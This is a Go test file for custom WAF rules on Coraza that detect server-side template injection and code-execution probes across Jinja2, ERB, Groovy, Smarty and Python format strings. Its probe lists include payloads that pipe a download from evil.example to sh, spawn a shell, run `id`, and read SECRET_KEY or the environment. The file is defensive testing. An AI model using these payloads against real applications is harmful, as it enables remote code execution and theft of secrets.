package waf

import (
	"encoding/json"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
)

// templateMoreRx is rule 210114's expression.
func templateMoreRx(t *testing.T) *regexp.Regexp {
	t.Helper()
	i := strings.Index(templateMoreRule, `"@rx `)
	j := strings.Index(templateMoreRule, `" "id:`)
	return regexp.MustCompile(strings.ReplaceAll(templateMoreRule[i+5:j], `\"`, `"`))
}

// TestTemplateMoreRule: rule 210114 matches the fifth attack's template
// probes (F3, F3b) and none of the templates a person writes.
func TestTemplateMoreRule(t *testing.T) {
	re := templateMoreRx(t)
	for _, s := range templateMoreProbes {
		if !re.MatchString(s) {
			t.Errorf("210114 misses %q", s)
		}
	}
	for _, s := range templateMoreBenign {
		if re.MatchString(s) {
			t.Errorf("210114 matches the benign %q", s)
		}
	}
}

var templateMoreProbes = []string{
	"{{- 7*7 -}}", "{%- set x = 7*7 -%}{{x}}", "{{ 7e0*7 }}", "{{ 7_0*7 }}", "{{ 7~7 }}",
	"{{ '7'|int * 7 }}", `{{ "abcdefg"|length * 7 }}`, "{{ [7,7]|sum }}", "{{ (7).__mul__(7) }}",
	"{{ 7*7|string }}", "{{ 7 * 7 | string }}", "{% with x = 7*7 %}{{x}}{% endwith %}",
	"{% set x = 7 %}{{ x * x }}", "{{ '%d'|format(7*7) }}", "{{'a'*7}}", "{{ 49 is divisibleby 7 }}",
	"{% widthratio 7 1 7 %}", "{{ settings.SECRET_KEY }}", "{{ max(7,49) }}", "{{ 7 b-and 7 }}",
	"{{:7*7}}", "{=7*7}", "@php echo 7*7; @endphp", "@{var x=7*7;}@x", "<%= 7.*(7) %>",
	"<%= 7.send(:*, 7) %>", "#set $x = 7*7",
	// a sixth fresh-eyes attack's B21
	"{{ (7,7)|sum }}", "{{ [7]|first * 7 }}", "{{ 7.real*7 }}", "{{ 7 .real * 7 }}", "{{ (7, 7,)|max }}", "{{ [7,7]|last * 7 }}",
	// a seventh fresh-eyes attack's (attack 11)
	"{{ (7).real*7 }}", "{{ (7) .real * 7 }}", "{{ 'a b c'|wordcount * 7 }}", "{{ [7]|sum(start=42) }}", "{{ [7,7]|sum(start=7) }}",
	"{{ ''|center(49)|length }}", "{{ {'a':7}['a']*7 }}", "{{ {7:7}|length*7 }}", "{{ {'a':7}.a * 7 }}", "{{ {'a':7}.get('a')*7 }}",
}

var templateMoreBenign = []string{
	"{{ user.name }}", "{{ price * quantity }}", "{{ items|length }}", "{{ item2 * 3 }}",
	"{{ 7 }} of {{ 10 }}", "{% set total = price %}", "{{ 'Dear ' ~ name }}", "{% set total = 0 %}{% for i in items %}{{ i.id }}{% endfor %}",
	"{{ 2024-01-15 }}", "{{ version }} 1.2.3", "{{ settings.theme }}", "{{ order.total | times: 1.1 }}",
	"{{ page }} / {{ pages }}", "Hello {{ user.first_name }}, your order {{ order.id }} ships in 3*2 days",
	"{{ items|map(attribute='name')|join(', ') }}", "{{ now() | date('Y') }}", "{{ 50 }}% off", "@php is a Blade directive",
	"<%= user.name %>", "<%= 7.days.ago %>", "#set is Velocity's directive", "@{ ViewData[\"Title\"] = \"Home\"; }",
	"{{ loop.index * 2 }}", "{{ x|round(2) }}", "{=name}", "{{:name}}", "Use {{- and -}} to trim white space",
	"{{ 'Total: ' ~ total }}", "{{ max(a, b) }}", "{{ a b-and b }}",
	// near B21
	"{{ (a, b)|sum }}", "{{ items|first }}", "{{ 7.real }}", "{{ x.real * 7 }}", "{{ (7) }}", "{{ [7]|first }}",
	// near the seventh attack's
	"{{ (x).real * 7 }}", "{{ body|wordcount }} words", "{{ prices|sum(start=0) }}", "{{ items|sum(attribute='price') }}", "{{ title|center(80) }}",
	"{{ items|batch(3)|length }}", "{{ {'a': 1}|tojson }}", "{{ dict(a=1).a }}", "{{ user.wordcount * rate }}",
}

// TestTemplateMoreRuleDecodes: the rule reads the query as the CRS does
// (t:urlDecodeUni): a probe percent-encoded, with + for spaces, matches.
func TestTemplateMoreRuleDecodes(t *testing.T) {
	re := templateMoreRx(t)
	s, _ := url.QueryUnescape(strings.ReplaceAll(url.QueryEscape("{{ 7 * 7 | string }}"), "+", "%20"))
	if !re.MatchString(s) {
		t.Errorf("210114 misses %q", s)
	}
}

// TestTemplateMoreBeyondTheCRS: through a real Caddy, each of the fifth
// attack's template probes passes the CRS alone and is refused with the
// additions, in the query and in JSON; the benign templates pass both.
func TestTemplateMoreBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	var misses, benign []probe
	for _, s := range templateMoreProbes {
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/hello?name=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api", contentType: "application/json", body: jsonString("name", s)})
	}
	for _, s := range templateMoreBenign {
		benign = append(benign, probe{name: "JSON " + s, method: "POST", path: "/api/templates", contentType: "application/json", body: jsonString("body", s)})
	}
	// Unicode white space between the tokens (a sixth attack's B5): 210115
	for _, s := range templateSpaceProbes {
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/hello?name=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api", contentType: "application/json", body: jsonString("name", s)})
	}
	for _, s := range templateSpaceBenign {
		benign = append(benign, probe{name: "JSON " + s, method: "POST", path: "/api/templates", contentType: "application/json", body: jsonString("body", s)},
			probe{name: "query " + s, method: "GET", path: "/hello?name=" + url.QueryEscape(s)})
	}
	runBeyondTheCRS(t, nil, misses, benign)
}

// rubyCodeProbes are attack 19's Ruby (and Python) code outside ERB
// tags, which rule 210116 refuses since.
var rubyCodeProbes = []string{`%x(id)`, `%x{id}`, `Kernel.spawn("id")`, `Kernel.public_send(:exec,"id")`, `Kernel.send(:system,"id")`,
	`#{Kernel.spawn("id")}`, `Open3.capture2("id")`, `__import__("subprocess").getoutput("id")`, `__import__("subprocess").check_output("id")`}

// rubyCodeBenign are their near-misses: C's printf formats, prose that
// names Kernel, Linux kernel text.
var rubyCodeBenign = []string{`the format "%x(%d)" prints 1f(31)`, `%x`, `the Kernel.spawn docs say`, `Linux kernel 6.8 spawns kthreadd (pid 2)`,
	`use %x or %X for hex`, `Kernel.spawn() returns the pid`}

// TestRubyCodeBeyondTheCRS: attack 19's Ruby code outside ERB tags is
// refused in the query, a form and JSON (210116); the near-misses pass.
func TestRubyCodeBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	var misses, benign []probe
	for _, s := range rubyCodeProbes {
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/x?expr=" + url.QueryEscape(s)},
			probe{name: "form " + s, method: "POST", path: "/x", contentType: "application/x-www-form-urlencoded", body: "name=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api", contentType: "application/json", body: jsonString("expr", s)})
	}
	for _, s := range rubyCodeBenign {
		benign = append(benign,
			probe{name: "query " + s, method: "GET", path: "/search?q=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("body", s)})
	}
	runBeyondTheCRS(t, nil, misses, benign)
}

func jsonString(k, v string) string {
	b, _ := json.Marshal(map[string]string{k: v})
	return string(b)
}

// templateSpaceProbes are the template probes with white space that Go's
// \s does not take (a sixth fresh-eyes attack's B5 and its addendum),
// each evaluated by Jinja2 3.1.6 or a JavaScript engine.
var templateSpaceProbes = []string{"{{7\u00a0*\u00a07}}", "{{7\u2003*\u20037}}", "{{ 7 *\u00a07 }}", "{{\u00a0config\u00a0}}", "{{ 7\u00a0*\u00a0\"7\" }}",
	"{{ \"a\"\u00a0*\u00a07 }}", "{{ 7\u00a0~\u00a07 }}", "#{7\u00a0*\u00a07}", "{{7\x0b*\x0b7}}", "{{7\x1c*\x1c7}}", "{{7\x1f*\x1f7}}",
	"{{7\u0085*\u00857}}", "{{7\u2028*\u20287}}", "{{7\u3000*\u30007}}", "{{7\ufeff*\ufeff7}}", "{{\u00a0config.items()\u00a0}}",
	"{{ ''.__class__ }}\u00a0", "{{ x|\u00a0attr('__class__') }}", "{%\u00a0set x = 7*7\u00a0%}{{x}}", "{{ 7\u00a0|\u00a0mul 7 }}"}

// templateSpaceBenign is text with such white space and templates a
// person writes (French typography's no-break spaces, a zero-width no-break
// space before a name).
var templateSpaceBenign = []string{"Prix\u00a0: {{ price }}\u00a0€", "{{\u00a0user.name\u00a0}}", "Bonjour\u00a0{{ name }}\u00a0!", "{{ price\u00a0*\u00a0quantity }}",
	"50\u00a0% off {{ items|length }}", "\ufeff{{ title }}", "3\u00a0*\u00a07 = 21", "{{ item2\u2003*\u20033 }}", "{{\u00a07\u00a0}} of {{\u00a010\u00a0}}"}

// TestTemplateSpaceRule: through Coraza with the template rules as the
// waf loads them, rule 210115 refuses the probes with Unicode white space
// (no other template rule does) and none of the benign text; each probe
// with ASCII spaces is refused by a template rule already.
func TestTemplateSpaceRule(t *testing.T) {
	waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives("SecRuleEngine On\nSecRxPreFilter Off\n" + detectionRules + templateMoreRule))
	if err != nil {
		t.Fatal(err)
	}
	if n := len(templateExpressions()); n != 7 {
		t.Errorf("%d template expressions, want 7 (210110 to 210114, 210116, 210117)", n)
	}
	ascii := strings.NewReplacer("\u00a0", " ", "\u2003", " ", "\x0b", " ", "\x1c", " ", "\x1f", " ", "\u0085", " ", "\u2028", " ", "\u3000", " ", "\ufeff", " ")
	for _, v := range templateSpaceProbes {
		if ids := execMatches(t, waf, v); !slices.Contains(ids, 210115) {
			t.Errorf("%q: rules %v, want 210115", v, ids)
		}
		if ids := execMatches(t, waf, ascii.Replace(v)); len(ids) == 0 || slices.Contains(ids, 210115) {
			t.Errorf("%q: rules %v, want a template rule's", ascii.Replace(v), ids)
		}
	}
	for _, v := range append(templateSpaceBenign, templateMoreBenign...) {
		if ids := execMatches(t, waf, v); len(ids) != 0 {
			t.Errorf("%q: rules %v", v, ids)
		}
	}
	// long values go to RE2 (rx.go): the same
	pad := strings.Repeat("x", re2MinLen)
	for _, v := range templateSpaceProbes[:4] {
		if ids := execMatches(t, waf, pad+v+pad); !slices.Contains(ids, 210115) {
			t.Errorf("%q padded: rules %v, want 210115", v, ids)
		}
	}
}

// TestTemplateSpaceSharesRE2: rule 210115 compiles the template rules'
// expressions as those rules do (the same strings to @rx), so Coraza's
// memoizer gives it their compiled programs and RE2 holds no more.
func TestTemplateSpaceSharesRE2(t *testing.T) {
	seen := map[string]int{}
	observeRX = func(o plugintypes.OperatorOptions) { seen[o.Arguments]++ }
	defer func() { observeRX = nil }()
	if _, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives("SecRuleEngine On\n" + detectionRules + templateMoreRule)); err != nil {
		t.Fatal(err)
	}
	for _, expr := range templateExpressions() {
		if seen[expr] != 2 {
			t.Errorf("%.60q: compiled %d times, want 2 (its rule's and 210115's, the same string)", expr, seen[expr])
		}
	}
}

// TestLaTeXMathsIsSmartysProbe pins the documented choice (docs/waf.md,
// Template injection): LaTeX maths holds Smarty's probe {2*3}, which
// Smarty evaluates wherever it stands, so every context that tells maths
// apart is one the probe can stand in too; 210110 refuses both alike (a
// sixth fresh-eyes attack's false positive, kept).
func TestLaTeXMathsIsSmartysProbe(t *testing.T) {
	waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives("SecRuleEngine On\n" + detectionRules))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{"$x^{2*3}$", `$\sqrt{2*2}$`, `$\frac{1}{2*3}$`, "x^{7*7}", "$^{7*7}$", `\sqrt{7*7}`, "{7*7}"} {
		if ids := execMatches(t, waf, v); !slices.Contains(ids, 210110) {
			t.Errorf("%q: rules %v, want 210110", v, ids)
		}
	}
}

// seclangRx compiles a rule's expression as @rx reads it (\" is ").
func seclangRx(expr string) *regexp.Regexp {
	return regexp.MustCompile(strings.ReplaceAll(expr, `\"`, `"`))
}

// TestTemplateCodeRule: rule 210116 matches a tenth fresh-eyes attack's
// (attack 14) Groovy and ERB code and none of the ERB and code that
// documentation and forum posts show.
func TestTemplateCodeRule(t *testing.T) {
	re := seclangRx(templateCodeRule)
	for _, s := range []string{
		`<% ['bash','-c','curl evil.example|sh'].execute() %>`, `<% 'id'.execute() %>`, `<% ['id'].execute() %>`,
		`<% evaluate('"id".execute()') %>`, `<% evaluate(x) %>`, `<% Eval.me(x) %>`, `yieldUnescaped ['id'].execute().text`,
		`<%= "id".execute().text %>`, `<%= %x[whoami] %>`, `<%= %x(id) %>`, `<%= system 'id' %>`, `<%= Kernel.send(:system, 'id') %>`,
		`<%= send(:system, 'id') %>`, `<%= public_send('exec', 'id') %>`, `<%= instance_eval('%x(id)') %>`,
		`<%= require 'open3'; Open3.capture2('id')[0] %>`, `<%= PTY.spawn('id') %>`, `<%= ENV.to_h %>`, `<%= ENV %>`, `<%= ENV.inspect %>`,
		// attack 19: outside ERB tags
		`%x(id)`, `%x{id}`, `Kernel.spawn("id")`, `Kernel.public_send(:exec,"id")`, `Kernel.send(:system,"id")`, `#{Kernel.spawn("id")}`,
		`x = %x[id]`, `Kernel.exec 'id'`, `Kernel::system("id")`, "Kernel.`(\"id\")", `Open3.capture2("id")`,
		`__import__("subprocess").getoutput("id")`, `__import__('pty').spawn('sh')`, `__import__( "os" ).system("id")`,
	} {
		if !re.MatchString(s) {
			t.Errorf("210116 misses %q", s)
		}
	}
	for _, s := range []string{
		`<%= @user.name %>`, `<%= link_to 'Home', root_path %>`, `<% if x %>`, `<%= render 'form' %>`, `<%= form.submit 'Save' %>`,
		`<%= ENV['RAILS_ENV'] %>`, `<%= ENV.fetch("RAILS_MAX_THREADS") { 5 } %>`, `<%= system_name %>`, `<% page.evaluate('x') %>`,
		`tasks['build'].execute()`, `commands[0].execute()`, `cursor.execute('SELECT 1')`, `db.prepare('x').execute()`,
		`printf("%x(%d)")`, `The operating system 'Linux' is fine`, `Use <% %> for code and <%= %> for output; the system 'works'`,
		`printf("%x(%d)\n", a, b)`, `%x`, `the Kernel.spawn docs say`, `Linux kernel 6.8: kernel.spawn_timeout=5`,
		`Kernel.spawn() returns a pid`, `printf "%x(%s)" 255 ok`, `Use %x for hex`, `__import__("json").dumps(x)`,
		`Kernel.system is like system`,
	} {
		if re.MatchString(s) {
			t.Errorf("210116 matches the benign %q", s)
		}
	}
}

// TestFormatFieldRule: rule 210117 matches str.format fields that reach
// a dunder attribute (attack 14) and not fields, f-strings or prose that
// do not.
func TestFormatFieldRule(t *testing.T) {
	re := seclangRx(formatFieldRule)
	for _, s := range []string{
		`{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}`, `{0.__init__.__globals__[os].environ}`, `{user.__dict__}`,
		`{0.__class__.__mro__[1]}`, `Hi {user.__init__.__globals__}`,
	} {
		if !re.MatchString(s) {
			t.Errorf("210117 misses %q", s)
		}
	}
	for _, s := range []string{
		`{0}`, `{name}`, `{user.name}`, `{0.__class__}`, `f"{self.__class__.__name__}({self.x!r})"`,
		`Override __init__ to set fields; __globals__ holds a function's module`, `{user.name} __init__`,
	} {
		if re.MatchString(s) {
			t.Errorf("210117 matches the benign %q", s)
		}
	}
}
